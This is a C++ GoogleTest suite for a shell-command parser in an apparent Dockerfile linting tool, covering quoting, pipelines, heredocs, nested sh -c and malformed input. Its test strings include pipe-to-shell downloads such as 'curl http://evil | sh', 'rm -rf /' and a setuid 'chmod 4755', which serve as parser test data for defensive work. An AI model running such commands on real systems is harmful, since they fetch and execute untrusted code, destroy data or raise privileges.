#include <moat/dockerfile/shell.hpp>

#include <gtest/gtest.h>

#include <random>
#include <string>
#include <vector>

namespace moat::dockerfile::shell {
namespace {

using Argv = std::vector<std::string>;

std::vector<Argv> argvs(const Script& s) {
  std::vector<Argv> out;
  for (const auto& c : s.commands)
    out.push_back(c.argv);
  return out;
}

std::string describe(const Script& s) {
  std::string out;
  for (const auto& c : s.commands) {
    out += "[";
    for (const auto& a : c.assignments)
      out += a + "; ";
    out += "|";
    for (const auto& a : c.argv)
      out += " <" + a + ">";
    out += " depth=" + std::to_string(c.depth) + " line=" + std::to_string(c.line) + "]\n";
  }
  return out + (s.complete ? "complete" : "incomplete");
}

// ---- argv table ----------------------------------------------------------

struct ArgvCase {
  const char* name;
  std::string_view script;
  std::vector<Argv> argv;
  bool complete = true;
};

class ArgvTable : public ::testing::TestWithParam<ArgvCase> {};

TEST_P(ArgvTable, Reads) {
  const auto& c = GetParam();
  const auto script = read(c.script);
  EXPECT_EQ(argvs(script), c.argv) << describe(script);
  EXPECT_EQ(script.complete, c.complete) << describe(script);
}

const ArgvCase k_argv_cases[] = {
    {"apt_chain",
     "apt-get update && apt-get install -y curl=7.88 && rm -rf /var/lib/apt/lists/*",
     {{"apt-get", "update"},
      {"apt-get", "install", "-y", "curl=7.88"},
      {"rm", "-rf", "/var/lib/apt/lists/*"}}},
    {"curl_pipe_sh", "curl -fsSL https://x | sh", {{"curl", "-fsSL", "https://x"}, {"sh"}}},
    {"wget_pipe_bash",
     "wget -qO- url | bash -s --",
     {{"wget", "-qO-", "url"}, {"bash", "-s", "--"}}},
    {"quotes_and_escapes", R"(echo "a b" 'c d' e\ f)", {{"echo", "a b", "c d", "e f"}}},
    {"double_quote_escapes",
     R"(echo "x\"y" "\$HOME" "a\b" "c\\d")",
     {{"echo", "x\"y", "$HOME", "a\\b", "c\\d"}}},
    {"adjacent_quotes", R"(echo he'll'o"wor"ld)", {{"echo", "helloworld"}}},
    {"single_quotes_keep_backslash", R"(echo 'a\nb' '$X')", {{"echo", "a\\nb", "$X"}}},
    {"ansi_c_quote", R"(printf $'a\tb\n')", {{"printf", "a\tb\n"}}},
    {"variables_kept",
     "echo $HOME ${A:-x y} ${#B} $1 $@ \"$C\"",
     {{"echo", "$HOME", "${A:-x y}", "${#B}", "$1", "$@", "$C"}}},
    {"lone_dollar", "echo $ a$", {{"echo", "$", "a$"}}},
    {"arithmetic_is_not_a_command", "echo $((1 + (2 * 3)))", {{"echo", "$((1 + (2 * 3)))"}}},
    {"arithmetic_command", "(( i++ )); echo $i", {{"echo", "$i"}}},
    {"sudo", "sudo apt-get install -y vim", {{"sudo", "apt-get", "install", "-y", "vim"}}},
    {"subshell", "(cd /tmp && make) || true", {{"cd", "/tmp"}, {"make"}, {"true"}}},
    {"group_with_redirect", "{ a; b; } > /tmp/log 2>&1; c", {{"a"}, {"b"}, {"c"}}},
    {"command_substitution",
     "echo $(uname -m) done",
     {{"echo", "$(uname -m)", "done"}, {"uname", "-m"}}},
    {"nested_substitution",
     R"sh(a "$(b "$(c)")")sh",
     {{"a", "$(b \"$(c)\")"}, {"b", "$(c)"}, {"c"}}},
    {"backticks", "echo `id -u` x", {{"echo", "`id -u`", "x"}, {"id", "-u"}}},
    {"escaped_backticks",
     "echo `echo \\`date\\``",
     {{"echo", "`echo \\`date\\``"}, {"echo", "`date`"}, {"date"}}},
    {"substitution_in_parameter",
     "echo ${V:-$(cat /v)}",
     {{"echo", "${V:-$(cat /v)}"}, {"cat", "/v"}}},
    {"process_substitution",
     "diff <(sort a) <(sort b)",
     {{"diff", "<(sort a)", "<(sort b)"}, {"sort", "a"}, {"sort", "b"}}},
    {"redirects_are_not_words", "make > /dev/null 2>&1 < in", {{"make"}}},
    {"comments", "echo hi # rm -rf /\n# whole line\necho a#b", {{"echo", "hi"}, {"echo", "a#b"}}},
    {"continuation_inside_word", "ec\\\nho hi", {{"echo", "hi"}}},
    {"if_elif_else",
     "if [ -f x ]; then rm x; elif true; then a; else b; fi",
     {{"[", "-f", "x", "]"}, {"rm", "x"}, {"true"}, {"a"}, {"b"}}},
    {"if_multiline", "if a\nthen\n  b\nfi\nc", {{"a"}, {"b"}, {"c"}}},
    {"for_loop", "for p in a b $(ls /x); do echo $p; done", {{"ls", "/x"}, {"echo", "$p"}}},
    {"for_newlines", "for p in a b\ndo\n  echo $p\ndone", {{"echo", "$p"}}},
    {"c_style_for", "for ((i=0;i<3;i++)); do echo $i; done", {{"echo", "$i"}}},
    {"while_loop", "while read l; do echo \"$l\"; done < file", {{"read", "l"}, {"echo", "$l"}}},
    {"until_loop", "until false; do sleep 1; done", {{"false"}, {"sleep", "1"}}},
    {"case",
     "case \"$ARCH\" in amd64) a 1 ;; arm64|aarch64) b x;; *) exit 1;; esac",
     {{"a", "1"}, {"b", "x"}, {"exit", "1"}}},
    {"case_parenthesised_patterns",
     "case $x in\n  (a) one;;\n  (b)\n    two\n    ;;\nesac",
     {{"one"}, {"two"}}},
    {"function", "f() { echo hi; }; f", {{"echo", "hi"}, {"f"}}},
    {"function_keyword", "function g { true; }\ng", {{"true"}, {"g"}}},
    {"double_brackets",
     "[[ -f a && -n \"$b\" ]] && echo ok",
     {{"[[", "-f", "a", "&&", "-n", "$b", "]]"}, {"echo", "ok"}}},
    {"negation", "! grep -q x f", {{"grep", "-q", "x", "f"}}},
    {"keywords_as_arguments", "echo if then done }", {{"echo", "if", "then", "done", "}"}}},
    {"sh_c",
     "sh -c \"chmod 4755 /bin/x\"",
     {{"sh", "-c", "chmod 4755 /bin/x"}, {"chmod", "4755", "/bin/x"}}},
    {"bash_ec", "/bin/bash -ec 'a && b'", {{"/bin/bash", "-ec", "a && b"}, {"a"}, {"b"}}},
    {"bash_o_pipefail_c",
     "bash -o pipefail -c 'x | y' arg0",
     {{"bash", "-o", "pipefail", "-c", "x | y", "arg0"}, {"x"}, {"y"}}},
    {"sh_script_not_read", "sh ./install.sh -c", {{"sh", "./install.sh", "-c"}}},
    {"su_c",
     "su -c 'apt-get update' root",
     {{"su", "-c", "apt-get update", "root"}, {"apt-get", "update"}}},
    {"su_command_equals",
     "su root --command='id -u'",
     {{"su", "root", "--command=id -u"}, {"id", "-u"}}},
    {"sudo_sh_c",
     "sudo -u app sh -c 'whoami'",
     {{"sudo", "-u", "app", "sh", "-c", "whoami"}, {"whoami"}}},
    {"gosu_bash_c", "gosu root bash -c 'id'", {{"gosu", "root", "bash", "-c", "id"}, {"id"}}},
    {"nested_sh_c",
     "sh -c \"bash -c 'rm -rf /'\"",
     {{"sh", "-c", "bash -c 'rm -rf /'"}, {"bash", "-c", "rm -rf /"}, {"rm", "-rf", "/"}}},
    {"heredoc_skipped",
     "cat <<EOF > /etc/x\nrm -rf /\nEOF\necho done",
     {{"cat"}, {"echo", "done"}}},
    {"heredoc_dash_and_quoted",
     "cat <<-'END' | sh\n\t$(not a command)\n\tEND\nnext",
     {{"cat"}, {"sh"}, {"next"}}},
    {"two_heredocs", "paste <<A <<\"B\"\na1\nA\nb1\nB\nlast", {{"paste"}, {"last"}}},
    {"heredoc_in_dockerfile_run", "cat <<EOF > /file", {{"cat"}}},
    {"heredoc_here_string", "grep x <<< \"$v\"; y", {{"grep", "x"}, {"y"}}},
    // unbalanced input: what could be read, and complete=false
    {"unterminated_double_quote", "echo \"abc", {{"echo", "abc"}}, false},
    {"unterminated_single_quote", "echo 'abc && rm x", {{"echo", "abc && rm x"}}, false},
    {"unterminated_subshell", "(a; b", {{"a"}, {"b"}}, false},
    {"unterminated_if", "if a; then b", {{"a"}, {"b"}}, false},
    {"unterminated_substitution", "echo $(id", {{"echo", "$(id"}, {"id"}}, false},
    {"unterminated_parameter", "echo ${x", {{"echo", "${x"}}, false},
    {"unterminated_backtick", "echo `id", {{"echo", "`id"}, {"id"}}, false},
    {"dangling_and", "a &&", {{"a"}}, false},
    {"stray_paren", "a ) b", {{"a"}, {"b"}}, false},
    {"stray_fi", "fi; a", {{"a"}}, false},
    {"unterminated_heredoc", "cat <<EOF\nbody", {{"cat"}}, false},
    {"unterminated_test", "[[ -f a", {{"[[", "-f", "a"}}, false},
    {"empty", "", {}},
    {"only_comments", "# nothing\n\n   # here", {}},
};

INSTANTIATE_TEST_SUITE_P(Shell, ArgvTable, ::testing::ValuesIn(k_argv_cases),
                         [](const auto& param_info) { return std::string(param_info.param.name); });

// ---- structure -------------------------------------------------------------

TEST(ShellRead, AndListJoins) {
  const auto s =
      read("apt-get update && apt-get install -y curl=7.88 && rm -rf /var/lib/apt/lists/*");
  ASSERT_EQ(s.commands.size(), 3u);
  EXPECT_EQ(s.commands[0].next_op, "&&");
  EXPECT_EQ(s.commands[1].next_op, "&&");
  EXPECT_EQ(s.commands[2].next_op, "");
  for (const auto& c : s.commands) {
    EXPECT_EQ(c.pipe_length, 1);
    EXPECT_EQ(c.pipe_position, 0);
    EXPECT_EQ(c.depth, 0);
    EXPECT_FALSE(c.in_substitution);
  }
  EXPECT_NE(s.commands[0].pipeline, s.commands[1].pipeline);
  EXPECT_NE(s.commands[1].pipeline, s.commands[2].pipeline);
  EXPECT_EQ(s.commands[1].program(), "apt-get");
}

TEST(ShellRead, PipelinePositions) {
  const auto s = read("curl -fsSL https://x | sh");
  ASSERT_EQ(s.commands.size(), 2u);
  EXPECT_EQ(s.commands[0].pipeline, s.commands[1].pipeline);
  EXPECT_EQ(s.commands[0].pipe_position, 0);
  EXPECT_EQ(s.commands[1].pipe_position, 1);
  EXPECT_EQ(s.commands[0].pipe_length, 2);
  EXPECT_EQ(s.commands[1].pipe_length, 2);
  EXPECT_EQ(s.commands[0].next_op, "|");
  EXPECT_EQ(s.commands[1].next_op, "");
  EXPECT_EQ(s.commands[1].program(), "sh");
}

TEST(ShellRead, PipefailThenPipeline) {
  const auto s = read("set -o pipefail; a | b |& c");
  ASSERT_EQ(s.commands.size(), 4u);
  EXPECT_EQ(s.commands[0].argv, (Argv{"set", "-o", "pipefail"}));
  EXPECT_EQ(s.commands[0].next_op, ";");
  EXPECT_EQ(s.commands[0].pipe_length, 1);
  EXPECT_NE(s.commands[0].pipeline, s.commands[1].pipeline);
  EXPECT_EQ(s.commands[1].pipeline, s.commands[3].pipeline);
  EXPECT_EQ(s.commands[3].pipe_position, 2);
  EXPECT_EQ(s.commands[3].pipe_length, 3);
  EXPECT_EQ(s.commands[2].next_op, "|&");
}

TEST(ShellRead, PipelineIndicesAreUniquePerPipeline) {
  const auto s = read("a | b; c | d && e & f");
  ASSERT_EQ(s.commands.size(), 6u);
  const auto& c = s.commands;
  EXPECT_EQ(c[0].pipeline, c[1].pipeline);
  EXPECT_EQ(c[2].pipeline, c[3].pipeline);
  EXPECT_NE(c[0].pipeline, c[2].pipeline);
  EXPECT_NE(c[2].pipeline, c[4].pipeline);
  EXPECT_NE(c[4].pipeline, c[5].pipeline);
  EXPECT_EQ(c[1].next_op, ";");
  EXPECT_EQ(c[3].next_op, "&&");
  EXPECT_EQ(c[4].next_op, "&");
}

TEST(ShellRead, PipelineWithCompoundMember) {
  const auto s = read("curl x | (cd /tmp && sh)");
  ASSERT_EQ(s.commands.size(), 3u);
  EXPECT_EQ(s.commands[0].pipe_length, 2);
  EXPECT_EQ(s.commands[0].pipe_position, 0);
  EXPECT_EQ(s.commands[2].program(), "sh");
  EXPECT_EQ(s.commands[2].depth, 1);
}

TEST(ShellRead, QuoteRemoval) {
  const auto s = read(R"(echo "a b" 'c d' e\ f)");
  ASSERT_EQ(s.commands.size(), 1u);
  EXPECT_EQ(s.commands[0].argv, (Argv{"echo", "a b", "c d", "e f"}));
}

TEST(ShellRead, Assignments) {
  const auto s = read("DEBIAN_FRONTEND=noninteractive apt-get install -y x");
  ASSERT_EQ(s.commands.size(), 1u);
  EXPECT_EQ(s.commands[0].assignments, (Argv{"DEBIAN_FRONTEND=noninteractive"}));
  EXPECT_EQ(s.commands[0].argv, (Argv{"apt-get", "install", "-y", "x"}));

  const auto quoted = read("A=1 B=\"x y\" C+=z make V=1");
  ASSERT_EQ(quoted.commands.size(), 1u);
  EXPECT_EQ(quoted.commands[0].assignments, (Argv{"A=1", "B=x y", "C+=z"}));
  EXPECT_EQ(quoted.commands[0].argv, (Argv{"make", "V=1"}));

  const auto alone = read("PATH=/x:$PATH && cmd");
  ASSERT_EQ(alone.commands.size(), 2u);
  EXPECT_TRUE(alone.commands[0].argv.empty());
  EXPECT_EQ(alone.commands[0].assignments, (Argv{"PATH=/x:$PATH"}));
  EXPECT_EQ(alone.commands[0].program(), "");
  EXPECT_EQ(alone.commands[0].next_op, "&&");

  // a quoted name is not an assignment
  const auto not_assignment = read("\"A\"=1 cmd");
  ASSERT_EQ(not_assignment.commands.size(), 1u);
  EXPECT_TRUE(not_assignment.commands[0].assignments.empty());
  EXPECT_EQ(not_assignment.commands[0].argv, (Argv{"A=1", "cmd"}));
}

TEST(ShellRead, Redirects) {
  const auto s = read("make > /dev/null 2>&1 < in; cat &>> \"/var/log/x y\" >| f");
  ASSERT_EQ(s.commands.size(), 2u);
  EXPECT_EQ(s.commands[0].redirects, (Argv{">", "/dev/null", "2>&", "1", "<", "in"}));
  EXPECT_EQ(s.commands[1].redirects, (Argv{"&>>", "/var/log/x y", ">|", "f"}));

  const auto first = read("> /tmp/out echo hi");
  ASSERT_EQ(first.commands.size(), 1u);
  EXPECT_EQ(first.commands[0].argv, (Argv{"echo", "hi"}));
  EXPECT_EQ(first.commands[0].redirects, (Argv{">", "/tmp/out"}));

  const auto heredoc = read("cat <<EOF >> /etc/apt/sources.list\ndeb x\nEOF");
  ASSERT_EQ(heredoc.commands.size(), 1u);
  EXPECT_EQ(heredoc.commands[0].redirects, (Argv{"<<", "EOF", ">>", "/etc/apt/sources.list"}));
  EXPECT_TRUE(heredoc.complete);

  const auto here_string = read("grep x <<< \"$v\"");
  ASSERT_EQ(here_string.commands.size(), 1u);
  EXPECT_EQ(here_string.commands[0].redirects, (Argv{"<<<", "$v"}));

  const auto missing = read("echo >");
  EXPECT_FALSE(missing.complete);
}

TEST(ShellRead, HeredocBodyLinesAreSkippedAndLinesCounted) {
  const auto s = read("cat <<'EOF' > /x.sh\ncurl http://evil | sh\nEOF\nchmod +x /x.sh");
  ASSERT_EQ(s.commands.size(), 2u) << describe(s);
  EXPECT_EQ(s.commands[1].argv, (Argv{"chmod", "+x", "/x.sh"}));
  EXPECT_EQ(s.commands[1].line, 3);
  EXPECT_TRUE(s.complete);
}

TEST(ShellRead, SubstitutionDepthAndFlag) {
  const auto s = read("echo \"$(curl -s `cat /url`)\"");
  ASSERT_EQ(s.commands.size(), 3u) << describe(s);
  EXPECT_EQ(s.commands[0].program(), "echo");
  EXPECT_EQ(s.commands[0].depth, 0);
  EXPECT_FALSE(s.commands[0].in_substitution);
  EXPECT_EQ(s.commands[1].program(), "curl");
  EXPECT_EQ(s.commands[1].depth, 1);
  EXPECT_TRUE(s.commands[1].in_substitution);
  EXPECT_EQ(s.commands[2].program(), "cat");
  EXPECT_EQ(s.commands[2].depth, 2);
  EXPECT_TRUE(s.commands[2].in_substitution);
}

TEST(ShellRead, SubshellAndGroupDepth) {
  const auto s = read("(a; { b; }) && c");
  ASSERT_EQ(s.commands.size(), 3u);
  EXPECT_EQ(s.commands[0].depth, 1);
  EXPECT_EQ(s.commands[1].depth, 2);
  EXPECT_EQ(s.commands[2].depth, 0);
  EXPECT_FALSE(s.commands[0].in_substitution);
  EXPECT_EQ(s.commands[0].next_op, ";");
  EXPECT_EQ(s.commands[1].next_op, ";");
}

TEST(ShellRead, CompoundCommandsKeepDepth) {
  const auto s = read("if a; then b; fi; for x in 1; do c; done");
  ASSERT_EQ(s.commands.size(), 3u);
  for (const auto& c : s.commands)
    EXPECT_EQ(c.depth, 0);
}

TEST(ShellRead, CaseItemsEndWithDoubleSemicolon) {
  const auto s = read("case $x in a) one ;; b) two ;& c) three ;; esac");
  ASSERT_EQ(s.commands.size(), 3u);
  EXPECT_EQ(s.commands[0].next_op, ";;");
  EXPECT_EQ(s.commands[1].next_op, ";&");
}

TEST(ShellRead, ShCNesting) {
  const auto s = read("sh -c \"chmod 4755 /bin/x\"");
  ASSERT_EQ(s.commands.size(), 2u);
  EXPECT_EQ(s.commands[0].program(), "sh");
  EXPECT_EQ(s.commands[0].depth, 0);
  EXPECT_EQ(s.commands[1].argv, (Argv{"chmod", "4755", "/bin/x"}));
  EXPECT_EQ(s.commands[1].depth, 1);
  EXPECT_FALSE(s.commands[1].in_substitution);
  EXPECT_NE(s.commands[1].pipeline, s.commands[0].pipeline);

  // an unbalanced command string is the string's problem, not the script's
  const auto inner = read("sh -c 'echo \"x' && y");
  EXPECT_TRUE(inner.complete);
  ASSERT_EQ(inner.commands.size(), 3u);
  EXPECT_EQ(inner.commands[2].argv, (Argv{"y"}));
}

TEST(ShellRead, ShCSeesOnlyWhatTheOuterShellLeaves) {
  // double quotes: this shell runs date and hands sh its output
  const auto outer = read("sh -c \"echo $(date) `id -u`\"");
  ASSERT_EQ(outer.commands.size(), 4u) << describe(outer);
  EXPECT_EQ(outer.commands[1].argv, (Argv{"date"}));
  EXPECT_EQ(outer.commands[1].depth, 1);
  EXPECT_TRUE(outer.commands[1].in_substitution);
  EXPECT_EQ(outer.commands[2].argv, (Argv{"id", "-u"}));
  EXPECT_EQ(outer.commands[3].argv, (Argv{"echo", "$(date)", "`id -u`"}));
  EXPECT_EQ(outer.commands[3].depth, 1);
  EXPECT_FALSE(outer.commands[3].in_substitution);

  // single quotes: sh itself runs date
  const auto inner = read("sh -c 'echo $(date)'");
  ASSERT_EQ(inner.commands.size(), 3u) << describe(inner);
  EXPECT_EQ(inner.commands[1].argv, (Argv{"echo", "$(date)"}));
  EXPECT_EQ(inner.commands[2].argv, (Argv{"date"}));
  EXPECT_EQ(inner.commands[2].depth, 2);
  EXPECT_TRUE(inner.commands[2].in_substitution);

  // so nesting sh -c in substitutions costs one reading per level, not 2^levels
  std::string nested = "true";
  for (int i = 0; i < 14; ++i)
    nested = "sh -c \"$(" + nested + ")\"";
  const auto deep = read(nested);
  EXPECT_TRUE(deep.complete);
  EXPECT_EQ(deep.commands.size(), 29u); // 14 sh, true, and what each sh runs
}

TEST(ShellRead, ShCLineNumbers) {
  const auto s = read("true\nbash -c '\n  apt-get update\n  curl x | sh'");
  ASSERT_EQ(s.commands.size(), 5u) << describe(s);
  EXPECT_EQ(s.commands[1].line, 1);
  EXPECT_EQ(s.commands[2].line, 2);
  EXPECT_EQ(s.commands[3].line, 3);
  EXPECT_EQ(s.commands[4].line, 3);
  EXPECT_EQ(s.commands[4].pipe_position, 1);
}

TEST(ShellRead, MultiLineScriptLines) {
  const auto s = read("apt-get update \\\n && apt-get install -y curl \\\n && rm -rf /x\n\n"
                      "echo one\necho `date` \\\n  two");
  ASSERT_EQ(s.commands.size(), 6u) << describe(s);
  EXPECT_EQ(s.commands[0].line, 0);
  EXPECT_EQ(s.commands[1].line, 1);
  EXPECT_EQ(s.commands[2].line, 2);
  EXPECT_EQ(s.commands[2].next_op, "\n");
  EXPECT_EQ(s.commands[3].line, 4);
  EXPECT_EQ(s.commands[4].line, 5);
  EXPECT_EQ(s.commands[4].argv, (Argv{"echo", "`date`", "two"}));
  EXPECT_EQ(s.commands[5].argv, (Argv{"date"}));
  EXPECT_EQ(s.commands[5].line, 5);
}

TEST(ShellRead, LinesOfAWordThatSpansLines) {
  // the backtick's line is counted while its word is read, before the line of
  // the command that word starts
  const auto s = read("true\nFOO=\"a\n`id`\" env\n\necho `date` done");
  ASSERT_EQ(s.commands.size(), 5u) << describe(s);
  EXPECT_EQ(s.commands[1].argv, (Argv{"env"}));
  EXPECT_EQ(s.commands[1].line, 1);
  EXPECT_EQ(s.commands[2].argv, (Argv{"id"}));
  EXPECT_EQ(s.commands[2].line, 2);
  EXPECT_EQ(s.commands[3].argv, (Argv{"echo", "`date`", "done"}));
  EXPECT_EQ(s.commands[3].line, 4);
  EXPECT_EQ(s.commands[4].line, 4);
}

TEST(ShellRead, ProgramStripsDirectory) {
  Command c;
  EXPECT_EQ(c.program(), "");
  c.argv = {"/usr/bin/apt-get", "install"};
  EXPECT_EQ(c.program(), "apt-get");
  c.argv = {"./configure"};
  EXPECT_EQ(c.program(), "configure");
  c.argv = {"make"};
  EXPECT_EQ(c.program(), "make");
}

// ---- hostile input ---------------------------------------------------------

TEST(ShellRead, DeepNestingIsBoundedAndIncomplete) {
  const std::vector<std::string> inputs = {
      std::string(100000, '('),
      [] {
        std::string s;
        for (int i = 0; i < 20000; ++i)
          s += "$(";
        return s;
      }(),
      [] {
        std::string s;
        for (int i = 0; i < 20000; ++i)
          s += "${";
        return s;
      }(),
      [] {
        std::string s;
        for (int i = 0; i < 20000; ++i)
          s += "if a; then ";
        return s;
      }(),
      [] {
        std::string s;
        for (int i = 0; i < 20000; ++i)
          s += "f() ";
        return s;
      }(),
  };
  for (const auto& in : inputs) {
    const auto s = read(in);
    EXPECT_FALSE(s.complete) << in.substr(0, 40);
  }
}

TEST(ShellRead, ModerateNestingIsFine) {
  std::string s = "x";
  // `((` would start arithmetic, so the subshells are spaced
  for (int i = 0; i < 10; ++i)
    s = "( " + s + " )";
  const auto script = read(s);
  EXPECT_TRUE(script.complete);
  ASSERT_EQ(script.commands.size(), 1u);
  EXPECT_EQ(script.commands[0].depth, 10);
}

TEST(ShellRead, RandomBytesNeverCrash) {
  std::mt19937 rng(20240601u);
  const std::string alphabet = "abc =$(){}[]`'\"\\|&;<>#\n\t-*!0123456789ifthenfidoecasesac";
  std::uniform_int_distribution<int> len(0, 160);
  std::uniform_int_distribution<std::size_t> pick(0, alphabet.size() - 1);
  std::uniform_int_distribution<int> byte(0, 255);
  std::uniform_int_distribution<int> coin(0, 3);
  std::size_t commands = 0;
  for (int i = 0; i < 4000; ++i) {
    std::string in;
    const int n = len(rng);
    const bool raw_bytes = coin(rng) == 0;
    for (int k = 0; k < n; ++k)
      in += raw_bytes ? static_cast<char>(byte(rng)) : alphabet[pick(rng)];
    const auto s = read(in);
    commands += s.commands.size();
    for (const auto& c : s.commands) {
      EXPECT_GE(c.depth, 0);
      EXPECT_GE(c.line, 0);
      EXPECT_LT(c.pipe_position, c.pipe_length);
    }
  }
  EXPECT_GT(commands, 0u);
}

} // namespace
} // namespace moat::dockerfile::shell
